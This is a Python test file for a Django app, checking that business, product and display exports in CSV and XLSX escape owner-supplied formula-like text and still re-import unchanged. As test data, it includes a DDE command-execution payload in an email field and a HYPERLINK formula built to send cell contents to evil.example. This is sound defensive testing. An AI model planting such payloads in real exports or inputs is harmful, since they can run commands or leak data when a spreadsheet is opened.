"""Staff exports never hold a live formula (CSV/formula injection): an owner who
signs up as =cmd|'/Ccalc'!A0@evil.example and names their business
=HYPERLINK(…) gets plain text in every column of every export, and the export
still imports back as unchanged."""

import csv
import io

import openpyxl
import pytest
from import_export.formats.base_formats import CSV, XLSX

from outlets.models import Display
from outlets.resources import DisplayResource
from products.models import Business, Product
from products.resources import FORMULA_STARTS, ProductResource
from tests.factories import make_business, make_display, make_product, make_user
from tests.test_import_export import export, immediate_tasks, preview_of, upload

pytestmark = pytest.mark.django_db

EVIL_EMAIL = "=cmd|'/Ccalc'!A0@evil.example"
EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'

__all__ = ["immediate_tasks"]  # the autouse fixture runs the imports at once


@pytest.fixture
def evil_product(cipare):
    owner = make_user(email=EVIL_EMAIL, full_name="+Pemilik")
    business = make_business(
        name=EVIL_NAME, owner=owner, nib="3673010000009", address="-Jl. Ahli"
    )
    product = make_product(
        business=business, name="@Dodol", unit="\tpack", description="\rManis"
    )
    make_display(product=product, outlet=cipare, decided_by=owner)
    return product


def cells(response):
    """Every cell of an exported file: (value, is a formula), header included."""
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(response.content.decode("utf-8")))
        return [(value, False) for row in rows for value in row]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [(cell.value, cell.data_type == "f") for row in sheet for cell in row]


EXPORTS = [
    (Business, None),
    (Product, ProductResource),
    (Display, DisplayResource),
]


@pytest.mark.parametrize("file_format", [CSV, XLSX], ids=["csv", "xlsx"])
@pytest.mark.parametrize(
    ("model", "resource"), EXPORTS, ids=["businesses", "products", "displays"]
)
def test_owner_supplied_formulas_are_exported_as_text(
    admin_client, evil_product, file_format, model, resource
):
    """In the CSV and XLSX exports of businesses, products and displays, an owner's
    name, email or text starting like a formula is plain text, escaped with a leading
    "'", never a live formula."""
    kwargs = {"resource": resource} if resource else {}

    response = export(admin_client, model, file_format, **kwargs)

    assert response.status_code == 200
    exported = cells(response)
    assert not [value for value, formula in exported if formula]
    assert not [
        value
        for value, _formula in exported
        if isinstance(value, str) and value.startswith(FORMULA_STARTS)
    ]
    texts = {value for value, _formula in exported}
    if model is Business:
        assert "'" + evil_product.business.owner.email in texts  # email_pemilik
    if model is Product:
        assert "'" + EVIL_NAME in texts  # the nama_usaha column


@pytest.mark.parametrize(
    ("model", "resource"),
    [(Business, None), (Product, ProductResource)],
    ids=["businesses", "products"],
)
def test_an_escaped_export_imports_back_unchanged(
    admin_client, evil_product, model, resource
):
    """An exported CSV of businesses or of products, formulas escaped, imports back
    without errors as one unchanged row."""
    kwargs = {"resource": resource} if resource else {}
    exported = export(admin_client, model, CSV, **kwargs)

    summary = preview_of(upload(admin_client, model, exported.content))

    assert summary["error_count"] == 0
    assert (summary["unchanged"], summary["new"], summary["updated"]) == (1, 0, 0)
